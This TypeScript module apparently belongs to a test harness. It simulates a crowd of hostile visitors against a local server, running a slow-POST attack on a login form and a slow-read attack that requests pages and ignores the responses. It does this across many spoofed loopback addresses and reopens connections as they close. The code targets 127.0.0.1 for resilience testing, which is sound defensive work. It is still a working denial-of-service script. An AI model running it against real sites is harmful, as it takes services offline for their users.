import { connect, type Socket } from 'node:net'
import { connect as connectTls } from 'node:tls'
import { PUBLIC_HOST } from './proxies.ts'
import { FORM } from './through-proxy.ts'

/* Visitors who try to block the site for all others, in a process of its own (see honest-visitor.ts). */

export type Crowd = {
	port: number
	tls: boolean
	/** number of addresses that post slowly, and of others that read no response */
	addresses: number
	/** connections of each address */
	posts: number
	reads: number
	/** how many pages a connection that reads nothing requests first; then one a second */
	pages: number
}

const head = (line: string, headers: Record<string, string>) =>
	[line, `Host: ${PUBLIC_HOST}`, ...Object.entries(headers).map(([name, value]) => `${name}: ${value}`), '', ''].join(
		'\r\n',
	)

const SLOW_POST = head('POST /login/ HTTP/1.1', { ...FORM, 'Content-Length': '1000' })
/** Request for an uncompressed page, which is six times as long. */
const PAGE = head('GET / HTTP/1.1', {})
const SECOND = 1_000
/** Share of an address's connections that it opens again in a second, after the first rush. */
const ANEW = 0.1

type Saying = { first: string; further: string; reads: boolean }

function open({ port, tls }: Pick<Crowd, 'port' | 'tls'>, from: string): Socket {
	const way = { host: '127.0.0.1', port, localAddress: from }
	return tls ? connectTls({ ...way, servername: PUBLIC_HOST, rejectUnauthorized: false }) : connect(way)
}

/**
 * Maintains a number of open connections from an address, and replaces those that close.
 * @param saying what it sends first, and once a second
 */
function keepOpen(crowd: Crowd, from: string, count: number, { first, further, reads }: Saying) {
	const sockets = new Set<Socket>()
	const openMore = (more: number) => {
		for (let turn = 0; turn < more; turn++) {
			const socket = open(crowd, from)
			sockets.add(socket)
			socket.on('error', () => undefined).once('close', () => sockets.delete(socket))
			socket.write(first)
			if (reads) socket.resume()
		}
	}
	openMore(count)
	setInterval(() => {
		for (const socket of sockets) socket.write(further)
		openMore(Math.min(count - sockets.size, Math.ceil(count * ANEW)))
	}, SECOND)
}

/** Attacks the site until its process is ended. */
export default function attack(crowd: Crowd): Promise<never> {
	const { addresses, posts, reads, pages } = crowd
	for (let number = 1; number <= addresses; number++) {
		keepOpen(crowd, `127.66.0.${number}`, posts, { first: SLOW_POST, further: 'e', reads: true })
		keepOpen(crowd, `127.66.1.${number}`, reads, { first: PAGE.repeat(pages), further: PAGE, reads: false })
	}
	return new Promise(() => undefined)
}
